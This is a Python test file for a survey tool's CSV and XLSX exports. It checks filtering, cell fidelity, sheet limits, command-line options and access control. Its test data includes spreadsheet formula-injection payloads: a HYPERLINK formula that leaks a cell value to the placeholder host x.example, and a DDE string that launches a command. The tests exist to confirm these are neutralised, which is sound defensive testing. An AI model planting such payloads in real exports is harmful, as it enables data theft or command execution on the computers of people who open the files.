"""Exports of the filtered view: CSV and XLSX from the page and the command line hold exactly the
filtered responses, with formula-like text neutralised and never a formula cell."""
from __future__ import annotations

import csv
import gc
import io
import json
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import insert, select

from survey.extensions import db
from survey.models import Answer, Contact, Response, ResponseTag
from survey.transfer import exports, workbook
from tests.factories import add_answers, make_survey, make_user
from tests.pages import export_workbook, log_in, post_form

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
COMMENTS = [*PAYLOADS[:3], "The 50%_off code failed", *PAYLOADS[3:]]
ALL = list(range(len(COMMENTS)))
NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def story(survey) -> list[int]:
    """Leeds in October (0–2), York in September (3–4), no location in August (5–6); a comment on each
    (mostly formula-like), the theme "billing" on the first."""
    ids = add_answers(survey, [(date(2026, 10, 5), "Leeds", 5)] * 3 + [(date(2026, 9, 5), "York", 2)] * 2
                      + [(date(2026, 8, 5), None, 3)] * 2)
    for response_id, text in zip(ids, COMMENTS, strict=True):
        db.session.add(Answer(response_id=response_id, question_key="comment", value_text=text))
    db.session.add(ResponseTag(response_id=ids[0], tag="billing", created_at=datetime(2026, 10, 6)))
    db.session.commit()
    return ids


@pytest.fixture
def ids(app) -> list[int]:
    with app.app_context():
        survey = make_survey()
        made = story(survey)
        make_user(email="analyst@example.com", role="analyst")
        make_user(email="agent@example.com", role="agent")
        return made


@pytest.fixture
def analyst(client, ids):
    log_in(client, "analyst@example.com")
    return client


URL = "/manage/surveys/support-csat/responses"


def csv_rows(text: str) -> list[dict]:
    """The rows of a CSV file as the command line writes it, or as the web sends it (after a BOM)."""
    return list(csv.DictReader(io.StringIO(text.removeprefix(exports.BOM), newline="")))


def _unescape(text: str) -> str:
    """OOXML writes control characters as _xHHHH_ (and a literal "_x" as _x005F_x)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), text)


def xlsx_sheet(data: bytes) -> tuple[list[list[tuple[str, str]]], str]:
    """The first sheet's rows of (cell type, text) — "s"/"inlineStr" for strings, "n" for numbers, ("", "")
    where no cell is written — and its raw XML, read with the standard library only."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        shared = ["".join(t.text or "" for t in item.iter(f"{NS}t"))
                  for item in ET.fromstring(book.read("xl/sharedStrings.xml")).iter(f"{NS}si")] \
            if "xl/sharedStrings.xml" in book.namelist() else []
    rows = []
    for row in ET.fromstring(sheet).iter(f"{NS}row"):
        cells = []
        for cell in row.iter(f"{NS}c"):
            kind, value = cell.get("t", "n"), cell.find(f"{NS}v")
            if kind == "inlineStr":
                text = "".join(t.text or "" for t in cell.iter(f"{NS}t"))
            else:
                text = shared[int(value.text)] if kind == "s" else value.text
            column = openpyxl.utils.column_index_from_string(re.sub(r"\d", "", cell.get("r")))
            cells += [("", "")] * (column - 1 - len(cells)) + [(kind, _unescape(text))]
        rows.append(cells)
    return rows, sheet


def xlsx_texts(data: bytes) -> list[list[str]]:
    return [[text for _kind, text in row] for row in xlsx_sheet(data)[0]]


NUMERIC = {"response_id", "version"}  # the columns that are numbers whatever the survey (and its scales)
# Text a spreadsheet must keep exactly (a cell holds at most 32 767 UTF-16 units, the rest is cut).
HOSTILE_TEXTS = [
    "Zoë, naïve café: 😀 中文 עברית",  # accents, an astral character, right to left
    "x" * 40_000,  # longer than a cell holds
    "😀" * 20_000,  # 40 000 UTF-16 units: cut between two characters, never inside one
    "ctrl \x01\x08\x0b\x0c\x1b\x1f end",  # XML 1.0 forbids these: written as _xHHHH_
    "\ufffe\uffff\x7f\x85",  # non-characters (escaped too) and C1 controls (allowed)
    "_x0041_, _x00e9_ and _X0041_ stay literal",  # looks like OOXML's escape: its underscore is escaped
    "<b>&amp; \"quoted\" 'single' ]]> </b>",
    "  padded  ",  # leading and trailing spaces are kept
    "line\r\nbreak\ttab\nend\n",
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "ok;=1+1", "'quoted", "3.14",  # text, never a formula or number
]
ATTRIBUTES = [{"location": "=Leeds", "tier": 2, "score": 2.5, "vip": True, "tags": ["a", "b"], "note": "<&>",
               "none": None},
              {"location": "York"}, {}]


def rich_story(survey) -> list[int]:
    """A response for each hostile text, answering every question type (some left unanswered), with segment
    attributes of every JSON type and a contact for some."""
    version = survey.current_version
    contact = Contact(email="zoë@example.com", created_at=datetime(2026, 1, 1))
    db.session.add(contact)
    db.session.flush()
    moment = datetime(2026, 10, 5, 9, 30, 15, 999_999)
    ids = db.session.scalars(insert(Response).returning(Response.id, sort_by_parameter_order=True), [
        {"respondent_key": f"rich:{i}", "survey_id": survey.id, "version_id": version.id, "source": "web",
         "submitted_at": moment, "local_date": moment.date(), "updated_at": moment, "revisions_count": 1,
         "contact_id": contact.id if i % 3 == 0 else None, "quote_consent": i % 2 == 0,
         "attributes": ATTRIBUTES[i % len(ATTRIBUTES)]} for i in range(len(HOSTILE_TEXTS))]).all()
    answers = []
    for i, (response_id, text) in enumerate(zip(ids, HOSTILE_TEXTS, strict=True)):
        answers.append({"response_id": response_id, "question_key": "comment", "value_text": text})
        if i % 4:  # the others leave the scales and choices unanswered
            answers += [{"response_id": response_id, "question_key": "satisfaction", "value_int": i % 5 + 1},
                        {"response_id": response_id, "question_key": "recommend", "value_int": i % 11},
                        {"response_id": response_id, "question_key": "channel", "value_int": 2, "value_text": "Email"},
                        {"response_id": response_id, "question_key": "topics", "value_int": 1, "value_text": "Billing"},
                        {"response_id": response_id, "question_key": "topics", "value_int": 3, "value_text": "Product"},
                        {"response_id": response_id, "question_key": "resolved", "value_int": i % 2}]
    db.session.execute(insert(Answer), answers)
    db.session.add(ResponseTag(response_id=ids[1], tag="=cmd|' /C calc'!A0", created_at=datetime(2026, 10, 6)))
    db.session.commit()
    return ids


def _unescape_ooxml(value: object) -> object:
    """A cell's value as Excel shows it: openpyxl leaves OOXML's _xHHHH_ escapes in inline strings."""
    return _unescape(value) if isinstance(value, str) else value


def workbook_rows(data: bytes, *, read_only: bool = False) -> tuple[list[str], list[list]]:
    """The header and the data rows of every sheet, in order, as openpyxl reads them (each sheet repeats the
    header), each row as long as the header (openpyxl's read-only mode ends a row at its last cell)."""
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=read_only)
    header: list[str] = []
    rows: list[list] = []
    for sheet in book.worksheets:
        values = [[_unescape_ooxml(value) for value in row] for row in sheet.iter_rows(values_only=True)]
        assert values, sheet.title
        header = header or values[0]
        assert values[0] == header, sheet.title
        for row in values[1:]:
            assert all(value is None for value in row[len(header):]), sheet.title
            rows.append(row[: len(header)] + [None] * (len(header) - len(row)))
    book.close()
    return header, rows


def _utf16_cut(text: str, units: int = 32_767) -> str:
    return text.encode("utf-16-le", "surrogatepass")[: units * 2].decode("utf-16-le", "ignore")


def assert_same_cells(header: list[str], rows: list[list], csv_text: str, numeric: set[str]) -> None:
    """The workbook holds the CSV export cell for cell: in the `numeric` columns numbers, elsewhere text (cut
    at a cell's 32 767 UTF-16 units, however much it looks like a number), an empty CSV field as no cell."""
    table = list(csv.reader(io.StringIO(csv_text.removeprefix(exports.BOM), newline="")))
    assert header == table[0]
    assert len(rows) == len(table) - 1
    for number, (got, wanted) in enumerate(zip(rows, table[1:], strict=True), start=2):
        for column, value, text in zip(header, got, wanted, strict=True):
            where = (number, column, value, text[:50])
            if text == "":
                assert value is None, where  # blank, as a spreadsheet opens the CSV's empty field
            elif column in numeric:
                assert type(value) in (int, float) and float(text) == value, where
                assert isinstance(value, float) or str(value) == text, where
            else:
                assert isinstance(value, str) and value == _utf16_cut(text), where


FILTERS = [
    ("", ALL), ("?where=location=Leeds", [0, 1, 2]), ("?from=2026-10-01", [0, 1, 2]),
    ("?to=2026-09-30", [3, 4, 5, 6]), ("?from=2026-09-01&to=2026-09-30", [3, 4]),
    ("?q=50%25_off", [3]), ("?q=50__off", []), ("?q=sum(a1)", [4]), ("?tag=Billing", [0]),
    ("?version=1", ALL), ("?version=2", []), ("?where=location=York&tag=billing", []),
    ("?period=week", ALL),  # the page's period unit does not narrow an export
]


@pytest.mark.parametrize("query, expected", FILTERS)
def test_csv_and_xlsx_hold_exactly_the_filtered_responses(analyst, ids, query, expected):
    wanted = [str(ids[i]) for i in expected]
    response = analyst.get(f"{URL}.csv{query}")
    assert response.status_code == 200 and response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="support-csat-responses.csv"'
    assert [row["response_id"] for row in csv_rows(response.get_data(as_text=True))] == wanted

    workbook = export_workbook(analyst, f"{URL}.xlsx{query}", page=f"{URL}{query}")
    assert workbook.status_code == 200 and workbook.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert workbook.headers["Content-Disposition"] == 'attachment; filename="support-csat-responses.xlsx"'
    assert [row[0] for row in xlsx_texts(workbook.get_data())[1:]] == wanted
    header, rows = workbook_rows(workbook.get_data())
    assert_same_cells(header, rows, response.get_data(as_text=True), NUMERIC | {"satisfaction", "recommend"})


def test_formulas_are_neutralised_in_csv_and_never_formulas_in_xlsx(analyst):
    rows = csv_rows(analyst.get(f"{URL}.csv").get_data(as_text=True))
    assert sorted(row["comment"] for row in rows) == sorted(
        "'" + text if text in PAYLOADS else text for text in COMMENTS)
    assert [row["tags"] for row in rows].count("billing") == 1

    cells, sheet = xlsx_sheet(export_workbook(analyst, f"{URL}.xlsx", page=URL).get_data())
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
    header = [text for _kind, text in cells[0]]
    assert header == list(rows[0].keys())  # the same columns as the CSV, in the same order
    comment, number = header.index("comment"), header.index("response_id")
    assert sorted(row[comment][1] for row in cells[1:]) == sorted(row["comment"] for row in rows)
    assert {row[comment][0] for row in cells[1:]} <= {"s", "inlineStr"}  # written as text, whatever it says
    assert {row[number][0] for row in cells[1:]} == {"n"}  # numbers stay numbers
    assert 'state="frozen"' in sheet and 'ySplit="1"' in sheet  # the header row stays in view
    columns = re.findall(r'<col min="(\d+)" max="(\d+)" width="([\d.]+)"', sheet)  # equal neighbours merge
    assert sum(int(last) - int(first) + 1 for first, last, _width in columns) == len(header)
    assert all(8 <= float(width) <= 51 for _first, _last, width in columns)


def test_the_workbook_holds_the_csv_export_cell_for_cell(ctx):
    """Read back by openpyxl (as pandas reads it too, in read-only mode), the workbook has the CSV export's
    cells: numbers as numbers, text as text whatever it holds (XML's special and illegal characters, an
    escape look-alike, formula look-alikes neutralised as in the CSV, every script), a long text cut at
    Excel's limit, the header in bold and frozen."""
    survey = make_survey()
    ids = rich_story(survey)
    selection = exports.Selection(survey)
    text = io.StringIO()
    exports.write_csv(selection, text)
    data = io.BytesIO()
    assert exports.write_xlsx(selection, data) == len(ids)
    for read_only in (False, True):
        header, rows = workbook_rows(data.getvalue(), read_only=read_only)
        assert_same_cells(header, rows, text.getvalue(), NUMERIC | {"satisfaction", "recommend", "attr.tier",
                                                                    "attr.score"})
    columns = {name: [row[i] for row in rows] for i, name in enumerate(header)}
    assert columns["response_id"] == ids and columns["version"] == [1] * len(ids)
    assert [type(value) for value in columns["satisfaction"]].count(int) == len(ids) - len(ids[::4])
    assert columns["attr.tier"][0] == 2 and columns["attr.score"][0] == 2.5  # JSON numbers stay numbers
    assert columns["submitted_at"][0] == "2026-10-05T09:30:15Z"  # times as the CSV writes them: text
    assert columns["attr.vip"][0] == "True" and columns["attr.none"][0] is None  # as csv.writer writes them
    assert [_utf16_cut(value) for value in columns["comment"]] == columns["comment"]
    assert len(columns["comment"][1]) == 32_767 and columns["comment"][2] == "😀" * 16_383

    book = openpyxl.load_workbook(io.BytesIO(data.getvalue()))
    sheet = book.worksheets[0]
    assert sheet.title == "Responses" and sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1]) and not any(cell.font.b for cell in sheet[2])
    assert all(8 <= sheet.column_dimensions[cell.column_letter].width <= 51 for cell in sheet[1])


@pytest.mark.parametrize("limit, value", [("MAX_ROWS", 4), ("SHEET_BYTES", 100_000)])
def test_rows_past_a_sheets_limit_go_on_in_the_next_sheet(ctx, monkeypatch, limit, value):
    """Past a sheet's rows (1 048 576 in Excel) or the bytes a zip entry holds without ZIP64, the responses
    go on in a new sheet that starts with the header: none is lost (XlsxWriter dropped them silently)."""
    monkeypatch.setattr(workbook, limit, value)
    survey = make_survey()
    rich_story(survey)
    selection = exports.Selection(survey)
    text = io.StringIO()
    exports.write_csv(selection, text)
    data = io.BytesIO()
    assert exports.write_xlsx(selection, data) == len(HOSTILE_TEXTS)
    header, rows = workbook_rows(data.getvalue())
    assert_same_cells(header, rows, text.getvalue(), NUMERIC | {"satisfaction", "recommend", "attr.tier",
                                                                "attr.score"})
    book = openpyxl.load_workbook(io.BytesIO(data.getvalue()))
    assert book.sheetnames[:3] == ["Responses", "Responses (2)", "Responses (3)"]
    with zipfile.ZipFile(data) as parts:
        sizes = [parts.getinfo(f"xl/worksheets/sheet{n}.xml").file_size for n in range(1, len(book.sheetnames) + 1)]
    for sheet, size in zip(book.worksheets, sizes, strict=True):
        assert sheet.freeze_panes == "A2" and all(cell.font.b for cell in sheet[1])
        assert sheet.max_row <= workbook.MAX_ROWS and (size <= workbook.SHEET_BYTES or sheet.max_row == 2)
    if limit == "MAX_ROWS":
        assert [sheet.max_row for sheet in book.worksheets] == [4] * 6


def test_bad_filters_export_nothing_and_say_why(analyst):
    response = analyst.get(f"{URL}.csv?from=last-week")
    assert response.status_code == 400 and response.mimetype == "text/plain"
    assert "from: 'last-week' is not a date" in response.get_data(as_text=True)
    workbook = export_workbook(analyst, f"{URL}.xlsx?to=2026-13-01&version=x", page=URL)
    text = workbook.get_data(as_text=True)
    assert workbook.status_code == 400 and "to: " in text and "version: " in text
    assert export_workbook(analyst, "/manage/surveys/nope/responses.xlsx", page=URL).status_code == 404
    assert analyst.get(f"{URL}.xlsx").status_code == 405  # a GET makes no file


def test_agents_and_strangers_cannot_export(client, ids):
    assert client.get(f"{URL}.csv").status_code == 302
    assert "/login" in post_form(client, f"{URL}.xlsx", page="/login").headers["Location"]
    log_in(client, "agent@example.com")
    assert client.get(f"{URL}.csv").status_code == 403
    assert post_form(client, f"{URL}.xlsx", page="/manage/cases/").status_code == 403


@pytest.mark.parametrize("query, options, expected", [
    ("where=location=Leeds&from=2026-10-01", ["--where", "location=Leeds", "--from", "2026-10-01"], [0, 1, 2]),
    ("to=2026-09-30&q=SUM", ["--to", "2026-09-30", "--search", "SUM"], [4]),
    ("tag=billing&version=1", ["--tag", "billing", "--version", "1"], [0]),
])
def test_command_line_filters_match_the_page(analyst, ids, runner, tmp_path, query, options, expected):
    page = analyst.get(f"{URL}.csv?{query}").get_data(as_text=True)
    result = runner.invoke(args=["export-responses", "support-csat", *options])
    # (stdout_bytes: click's `output` turns CRLF into LF)
    assert result.exit_code == 0 and exports.BOM + result.stdout_bytes.decode() == page  # no BOM …
    marked = runner.invoke(args=["export-responses", "support-csat", *options, "--bom"])
    assert marked.exit_code == 0 and marked.stdout_bytes.decode() == page  # … unless asked
    assert [row["response_id"] for row in csv_rows(page)] == [str(ids[i]) for i in expected]

    target = tmp_path / "view.xlsx"
    done = runner.invoke(args=["export-responses", "support-csat", "--format", "xlsx", "--output", str(target),
                               *options])
    assert done.exit_code == 0
    assert xlsx_texts(target.read_bytes()) == xlsx_texts(
        export_workbook(analyst, f"{URL}.xlsx?{query}", page=URL).get_data())


@pytest.mark.parametrize("options, status, message", [
    (["--format", "xlsx"], 2, "give --output FILE"),
    (["--where", "bogus"], 1, "--where: write ATTRIBUTE=VALUE"),
    (["--where", "shoe=42"], 1, "--where: "),
    (["--from", "last-week"], 2, "Invalid value for '--from': 'last-week' is not an ISO 8601 date"),
    (["--to", "2026-02-30"], 2, "Invalid value for '--to': '2026-02-30'"),
    (["--version", "two"], 1, "--version: 'two' is not a version number"),
    (["--output", "/nonexistent/dir/out.csv"], 1, "cannot write /nonexistent/dir/out.csv"),
    (["--format", "xlsx", "--output", "/nonexistent/dir/out.xlsx"], 1, "cannot write"),
])
def test_command_line_rejects_bad_options_with_a_message(runner, ids, options, status, message):
    result = runner.invoke(args=["export-responses", "support-csat", *options])
    assert result.exit_code == status and message in result.output
    assert isinstance(result.exception, SystemExit)  # a message, not a traceback


def test_command_line_since_and_json_keep_working_with_filters(runner, ids):
    york = runner.invoke(args=["export-responses", "support-csat", "--since", "2026-09-01", "--to", "2026-09-30"])
    assert [row["response_id"] for row in csv_rows(york.output)] == [str(ids[3]), str(ids[4])]
    as_json = json.loads(runner.invoke(args=["export-responses", "support-csat", "--format", "json"]).output)
    assert [record["tags"] for record in as_json] == [["billing"]] + [[]] * (len(ids) - 1)
    tagged = runner.invoke(args=["export-responses", "support-csat", "--format", "jsonl", "--tag", "billing"])
    assert [json.loads(line)["response_id"] for line in tagged.output.splitlines()] == [ids[0]]


def test_unfiltered_export_is_unchanged_apart_from_the_tags_column(ctx, runner):
    survey = make_survey()
    story(survey)
    result = runner.invoke(args=["export-responses", survey.slug])
    header = result.output.splitlines()[0].split(",")
    assert header[:6] == ["response_id", "submitted_at", "updated_at", "version", "email", "source"]
    assert header[-3:] == ["quote_consent", "contact_consent", "tags"]
    assert len(csv_rows(result.output)) == db.session.scalar(select(db.func.count(Response.id)))


def test_every_response_gets_its_own_answers_wherever_batches_and_fetches_end(ctx, monkeypatch):
    """Answers and tags are each read as one stream ordered by response and merged with the responses':
    with batches and fetches of any size (here ending inside a response's answers), every format is the
    same, and each record holds exactly its response's answers in the database."""
    survey = make_survey()
    ids = story(survey)
    for i, response_id in enumerate(ids):  # a multi question's options, stored out of order, on some
        for position, option in [(3, "Product"), (1, "Billing")][: i % 3]:
            db.session.add(Answer(response_id=response_id, question_key="topics", value_int=position,
                                  value_text=option))
        db.session.add(ResponseTag(response_id=response_id, tag=f"theme {i % 2}", created_at=datetime(2026, 10, 6)))
    db.session.commit()
    selection = exports.Selection(survey)

    def everything() -> tuple:
        out, lines = io.StringIO(), io.StringIO()
        exports.write_csv(selection, out)
        exports.write_json(selection, lines, lines=True)
        return out.getvalue(), "".join(exports.csv_chunks(selection)), lines.getvalue()

    whole = everything()  # one batch, one fetch
    assert whole[0] == whole[1]
    for batch, fetch in [(1, 1), (2, 3), (3, 2), (4, 7)]:
        monkeypatch.setattr(exports, "BATCH", batch)
        monkeypatch.setattr(exports, "ANSWER_FETCH", fetch)
        assert everything() == whole, (batch, fetch)

    records = [json.loads(line) for line in whole[2].splitlines()]
    assert [record["response_id"] for record in records] == ids
    for record in records:
        stored = db.session.scalars(select(Answer).where(Answer.response_id == record["response_id"])).all()
        topics = [a.value_text for a in sorted(stored, key=lambda a: a.value_int or 0) if a.question_key == "topics"]
        assert record["answers"].get("topics", []) == topics
        single = {a.question_key: a.value_int if a.value_text is None else a.value_text
                  for a in stored if a.question_key != "topics"}
        assert {key: record["answers"][key] for key in single} == single
        tags = db.session.scalars(select(ResponseTag.tag).where(ResponseTag.response_id == record["response_id"])).all()
        assert record["tags"] == sorted(tags)
    assert [row["topics"] for row in csv_rows(whole[0])] == ["", "Product", "Billing;Product"] * 2 + [""]


def test_exports_leave_the_garbage_collector_as_they_found_it(ctx):
    """Exports pause the cyclic collector while they work; a streamed one runs it between chunks, so an
    export that is never finished does not leave it off."""
    survey = make_survey()
    story(survey)
    selection = exports.Selection(survey)
    assert gc.isenabled()
    exports.write_csv(selection, io.StringIO())
    exports.write_json(selection, io.StringIO())
    exports.write_xlsx(selection, io.BytesIO())
    assert gc.isenabled()
    chunks = exports.csv_chunks(selection)
    next(chunks)
    assert gc.isenabled()
    chunks.close()
    gc.disable()
    try:
        exports.write_csv(selection, io.StringIO())
        assert not gc.isenabled()
    finally:
        gc.enable()


def test_the_application_loads_no_heavy_library_until_it_needs_one(tmp_path):
    """scipy is most of a process's memory and an export computes no statistic (analysis/ imports it at
    a statistic's first call); XlsxWriter adds 50 ms to every process's start and writes only workbooks;
    Pillow only draws emailed charts: the whole application, its command line included, loads none."""
    code = ("import sys\n"
            "from survey import create_app\n"
            "import survey.transfer.exports, survey.views.manage.exports\n"
            f"create_app({{'SQLALCHEMY_DATABASE_URI': 'sqlite:///{tmp_path}/x.sqlite3', 'SECRET_KEY': 'x'}})\n"
            "print(sorted({m.split('.')[0] for m in sys.modules} & {'scipy', 'numpy', 'matplotlib', 'xlsxwriter',"
            " 'PIL'}))\n")
    done = subprocess.run([sys.executable, "-c", code], cwd=Path(__file__).resolve().parents[3], capture_output=True,
                          text=True, timeout=120, env={**os.environ, "HEARKEN_INSTANCE_PATH": str(tmp_path)})
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "[]"


def test_every_csv_ends_its_lines_with_crlf_and_only_the_web_downloads_start_with_a_bom(analyst, ids, runner,
                                                                                         tmp_path):
    """RFC 4180's CRLF after every row of every CSV Hearken writes (a cell's lone CR is quoted, so no row
    ends inside it); a UTF-8 BOM before the web downloads, so Excel keeps "Zoë" intact; none from the
    command line unless --bom is given, which is for CSV only."""
    window = ["--from", "2026-08-01", "--to", "2026-10-31"]
    results_url = "/manage/surveys/support-csat/results.csv?from=2026-08-01&to=2026-10-31"

    def written(*args: str) -> bytes:
        target = tmp_path / "export.csv"
        assert runner.invoke(args=[*args, "--output", str(target)]).exit_code == 0
        return target.read_bytes()

    files = {  # name → (bytes, starts with a BOM)
        "responses page": (analyst.get(f"{URL}.csv").data, True),
        "results page": (analyst.get(results_url).data, True),
        "export-responses": (runner.invoke(args=["export-responses", "support-csat"]).stdout_bytes, False),
        "export-responses --output": (written("export-responses", "support-csat"), False),
        "export-responses --bom": (written("export-responses", "support-csat", "--bom"), True),
        "export-results": (runner.invoke(args=["export-results", "support-csat", *window]).stdout_bytes, False),
        "export-results --bom": (written("export-results", "support-csat", *window, "--bom"), True),
    }
    for name, (data, bom) in files.items():
        assert data.startswith(b"\xef\xbb\xbf") == bom, name
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        assert len(rows) > 1 and data.endswith(b"\r\n"), name
        assert data.count(b"\r\n") == len(rows) and b"\n" not in data.replace(b"\r\n", b""), name
    assert b'"\'\r=1"' in files["responses page"][0]  # the comment "\r=1", neutralised and quoted
    assert files["responses page"][0] == b"\xef\xbb\xbf" + files["export-responses"][0]
    for command in (["export-responses", "support-csat", "--format", "jsonl", "--bom"],
                    ["export-results", "support-csat", "--format", "jsonl", "--bom"]):
        refused = runner.invoke(args=command)
        assert refused.exit_code == 2 and "--bom is for --format csv" in refused.output
